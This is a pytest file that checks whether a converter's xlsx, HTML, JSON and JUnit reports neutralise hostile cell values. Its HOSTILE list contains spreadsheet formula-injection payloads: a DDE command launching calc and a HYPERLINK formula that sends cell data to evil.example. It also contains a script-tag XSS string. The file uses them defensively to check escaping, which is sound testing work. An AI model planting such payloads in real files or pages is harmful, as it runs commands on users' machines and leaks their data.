"""Hostile cell values in reports (issue 6 item 2): text that a spreadsheet would execute as a
formula (= + - @ at the start) must be stored as text, exactly as collected; markup must not
become active in the HTML report. The reports belong to converter.report; these tests hold them
to the robustness contract."""

from __future__ import annotations

import html
import json
import re
import zipfile

import pytest

from converter.issues import IssueLog

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
    "<script>alert(1)</script>",
]


@pytest.fixture
def reports(tmp_path):
    from converter.report import write_reports
    log = IssueLog()
    for i, value in enumerate(HOSTILE):
        log.add("MAP.CT", "term not in codelist", dataset="AE", variable="AETERM",
                usubjid=f"S-{i}", source_file="ae.csv", source_row=i + 1, value=value)
    paths = write_reports(log, None, tmp_path, title="hostile values")
    return {p.name: p for p in paths}


def sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as zf:
        return "\n".join(zf.read(n).decode("utf-8") for n in zf.namelist()
                         if n.startswith("xl/worksheets/") or n == "xl/sharedStrings.xml")


def test_xlsx_has_no_formulas_and_keeps_values_as_text(reports):
    xml = sheet_xml(reports["report.xlsx"])
    assert "<f>" not in xml and "<f " not in xml
    import openpyxl
    wb = openpyxl.load_workbook(reports["report.xlsx"])     # formulas would show as data_type f
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen[cell.value] = cell.data_type
    for value in HOSTILE:
        assert value in seen, value                          # exact text, not mangled
        assert seen[value] in ("s", "inlineStr")


def test_html_escapes_markup(reports):
    text = reports["report.html"].read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in text
    assert html.escape("<script>alert(1)</script>") in text or \
        "&lt;script&gt;alert(1)&lt;/script&gt;" in text


def test_json_and_junit_keep_values_exactly(reports):
    data = json.loads(reports["report.json"].read_text(encoding="utf-8"))
    flat = json.dumps(data, ensure_ascii=False)
    for value in HOSTILE:
        assert json.dumps(value, ensure_ascii=False)[1:-1] in flat
    junit = reports["junit.xml"].read_text(encoding="utf-8")
    assert not re.search(r"<script>", junit)
